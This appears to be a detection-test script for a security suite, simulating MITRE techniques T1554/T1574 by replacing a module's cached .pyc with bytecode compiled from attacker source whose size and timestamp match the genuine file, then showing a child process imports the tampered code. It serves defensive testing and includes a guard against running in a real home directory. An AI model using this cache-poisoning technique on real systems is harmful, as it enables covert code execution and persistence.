# technique: T1554 T1574
# gap: py_compile writing a .pyc for a given source is what installers do; no event says the bytecode belongs to another source
"""Compromise Host Software Binary (T1554) / Hijack Execution Flow (T1574):
a cached .pyc of a legitimate module is replaced by bytecode compiled from
other source, using py_compile with an explicit cfile.

Creates a small package under HOME (`vendorlib/util.py`), then calls
py_compile.compile() on an attacker source file of the same size whose
mtime is copied from the genuine one, with cfile= the legitimate module's
cached path and dfile= its source path. The timestamp-based header then
matches the genuine source, so the next import silently runs the
attacker's bytecode. A child interpreter proves it.

A good detector raises a high alert: a .pyc file is written by code that is
not the import system's own cache writer.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import importlib.util
import os
import py_compile
import subprocess
import sys
import tempfile

home = os.path.expanduser("~")
pkg = os.path.join(home, "app", "vendorlib")
os.makedirs(pkg, exist_ok=True)
open(os.path.join(pkg, "__init__.py"), "w").close()
mod = os.path.join(pkg, "util.py")
with open(mod, "w") as f:
    f.write("VALUE = 'genuine'\n")
cfile = importlib.util.cache_from_source(mod)
with tempfile.TemporaryDirectory() as work:
    evil = os.path.join(work, "util.py")
    with open(evil, "w") as f:
        f.write("VALUE = 'hacked!'\n")  # same length as the genuine line
    st = os.stat(mod)
    os.utime(evil, ns=(st.st_atime_ns, st.st_mtime_ns))
    py_compile.compile(evil, cfile=cfile, dfile=mod, doraise=True)
out = subprocess.run([sys.executable, "-c", "import vendorlib.util as u; print(u.VALUE)"],
                     cwd=os.path.dirname(pkg), capture_output=True, text=True, timeout=8)
print("child sees:", out.stdout.strip())
